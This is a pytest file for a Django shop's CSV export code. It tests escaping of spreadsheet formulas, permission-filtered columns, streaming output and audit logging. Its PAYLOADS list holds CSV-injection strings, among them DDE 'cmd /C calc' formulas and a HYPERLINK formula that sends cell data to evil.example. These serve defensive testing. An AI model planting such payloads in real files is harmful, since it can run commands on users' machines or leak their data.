import csv
from decimal import Decimal

import pytest
from django.contrib.admin.models import LogEntry
from django.contrib.auth.models import Permission

from accounts.models import User
from shop.kit import exports
from shop.kit.exports import Column

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '=HYPERLINK("https://evil.example?"&A1,"click")',
    "＝1+1",
    "＠SUM(A1)",
    "\0=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_abuse_22_a_name_that_is_a_formula_is_a_text(payload):
    assert exports.harmless(payload).startswith("'")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_abuse_22_a_formula_cannot_leave_its_cell(payload):
    names = [payload, f'",{payload}', f"Eve\n{payload}", f"Eve;{payload}"]
    columns = [Column("Name", lambda row: row), Column("After", lambda row: "ok")]

    text = "".join(exports.lines(columns, names))

    rows = list(csv.reader(text.splitlines(keepends=True)))
    assert [row[1] for row in rows] == ["After"] + ["ok"] * len(names)
    assert not any(
        cell.lstrip(" ").startswith(exports._DANGEROUS) for row in rows for cell in row
    )


def test_a_heading_is_a_text_too():
    text = "".join(exports.lines([Column("=1+1", str)], []))

    assert text == "'=1+1\r\n"


@pytest.mark.parametrize(
    ("value", "written"),
    [(-5, -5), (Decimal("-5.00"), Decimal("-5.00")), (None, ""), ("Ada", "Ada")],
)
def test_what_is_no_formula_stays_as_it_is(value, written):
    assert exports.harmless(value) == written


def test_an_amount_is_a_number_of_its_currency():
    assert str(exports.amount(1999, "USD")) == "19.99"
    assert str(exports.amount(1999, "JPY")) == "1999"


def test_rows_are_read_as_they_are_sent():
    def rows():
        yield "first"
        raise AssertionError("nobody asked for a second row yet")

    lines = exports.lines([Column("Name", str)], rows())

    assert [next(lines), next(lines)] == ["Name\r\n", "first\r\n"]


@pytest.fixture
def asks(rf, db):
    """A request of a member of staff with these permissions."""

    def ask(*permissions):
        request = rf.post("/")
        request.user = User.objects.create_user("clerk@example.com", is_staff=True)
        request.user.user_permissions.set(
            Permission.objects.filter(codename__in=permissions)
        )
        return request

    return ask


COLUMNS = [
    Column("Friends", lambda row: row["friends"]),
    Column("Email", lambda row: row["email"], "accounts.view_user"),
]
ROWS = [{"friends": 3, "email": "anna@example.com"}]


def download(request):
    answer = exports.respond(
        request, "Top inviters", COLUMNS, ROWS, about=User, note="since 1 May"
    )
    assert answer.streaming
    return answer, b"".join(answer.streaming_content).decode()


def test_a_column_that_a_person_may_not_see_is_not_in_the_file(asks):
    _, text = download(asks())

    assert text == "Friends\r\n3\r\n"


def test_an_export_is_a_file_and_is_written_down(asks):
    request = asks("view_user")

    answer, text = download(request)

    assert text == "Friends,Email\r\n3,anna@example.com\r\n"
    assert answer["Content-Disposition"] == 'attachment; filename="top-inviters.csv"'
    assert answer["Cache-Control"] == "no-store"
    entry = LogEntry.objects.get(user=request.user)
    assert entry.content_type.model_class() is User
    assert entry.change_message == "Exported Top inviters since 1 May: Friends, Email"
